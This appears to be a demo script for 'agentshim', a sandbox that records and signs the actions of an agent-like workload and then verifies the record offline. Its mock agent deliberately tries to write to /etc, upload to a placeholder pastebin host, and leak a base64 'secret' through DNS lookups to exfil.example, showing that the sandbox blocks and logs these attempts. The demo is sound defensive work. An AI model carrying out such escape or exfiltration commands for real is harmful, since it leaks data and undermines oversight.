#!/usr/bin/env bash
# The main job, end to end: an agent-like workload runs sandboxed under
# agentshim (it writes, modifies and deletes files in a mounted workspace and
# runs several programs), then its record is verified offline and shown.
# $1 is the build directory. Needs root (namespaces, mounts, cgroups).
set -euo pipefail
build=${1:-build}
bin=$(realpath "$build/shim/agentshim")
repo=$(cd "$(dirname "$0")/.." && pwd)
[ "$(id -u)" = 0 ] || { echo "demo: run as root (containers need namespaces and cgroups)" >&2; exit 1; }

work=$(mktemp -d /tmp/agentshim-demo.XXXXXX)
state="$work/state"
audit="$work/audit"
bundle="$work/bundle"
ws="$work/workspace"
cleanup() { "$bin" --root "$state" delete --force demo >/dev/null 2>&1 || true; }
trap cleanup EXIT

echo "== building a busybox root filesystem and an OCI bundle in $work"
bash "$repo/scripts/mkrootfs.sh" "$bundle/rootfs" >/dev/null
"$bin" spec --bundle "$bundle" >/dev/null
mkdir -p "$ws/src"
printf 'print("hello")\n' > "$ws/src/main.py"
printf 'TODO: write tests\n' > "$ws/NOTES.md"
printf 'stale build output\n' > "$ws/build.log"

# The "agent": reads the task, edits code, writes a script and runs it,
# deletes stale output, and tries to look around the machine.
cat > "$ws/agent.sh" <<'AGENT'
#!/bin/sh
echo "agent: reading the workspace"; ls /workspace
echo 'print("hello, world")' > /workspace/src/main.py
printf '#!/bin/sh\necho "tests: 3 passed"\n' > /workspace/run_tests.sh
chmod +x /workspace/run_tests.sh
/workspace/run_tests.sh
rm /workspace/build.log
echo "- wrote tests" >> /workspace/NOTES.md
/bin/sha256sum /workspace/src/main.py
/bin/uname -a
echo "agent: trying to write outside the workspace"; touch /etc/evil 2>&1 || true
echo "agent: fetching a page not on the allowlist (through the egress proxy in \$http_proxy)"
wget -q -O- http://pastebin.example/upload 2>&1 || true
echo "agent: trying to leak a secret through DNS"
nslookup c2VjcmV0.exfil.example 2>&1 | grep -i -m1 refused || true
echo "agent: done"
AGENT
chmod +x "$ws/agent.sh"
/usr/bin/python3 - "$bundle/config.json" "$ws" <<'PY'
import json, sys
path, ws = sys.argv[1], sys.argv[2]
c = json.load(open(path))
c["process"]["terminal"] = False
c["process"]["args"] = ["/workspace/agent.sh"]
c["process"]["cwd"] = "/workspace"
c["mounts"].append({"destination": "/workspace", "type": "bind", "source": ws, "options": ["rbind", "rw"]})
json.dump(c, open(path, "w"), indent=2)
PY

echo
echo "== agentshim run (sandboxed; every exec, file change and exit is recorded)"
set +e
"$bin" --root "$state" --audit-dir "$audit" run --bundle "$bundle" demo < /dev/zero
code=$?
set -e
echo "(exit status $code)"

echo
echo "== agentshim verify demo"
"$bin" --root "$state" --audit-dir "$audit" verify demo

echo
echo "== agentshim runs show demo"
"$bin" --root "$state" --audit-dir "$audit" runs show demo

echo
echo "== the signed attestation is checkable without agentshim (Python + cryptography):"
run_dir=$(ls -d "$audit"/runs/*)
/usr/bin/python3 - "$run_dir" "$audit" "$repo/integration" <<'PY'
import sys
sys.path.insert(0, sys.argv[3])
import formats_verifier
run_dir, audit = sys.argv[1], sys.argv[2]
pub = open(f"{audit}/keys/signing.pem.pub", "rb").read()
problems, events, pred = formats_verifier.verify(run_dir, pub, f"{audit}/ledger.ndjson")
print("independent verifier:", "OK" if not problems else problems, f"({len(events)} events, key {pred['signer']['keyid'][:16]}...)")
sys.exit(1 if problems else 0)
PY
echo
echo "record: $run_dir"
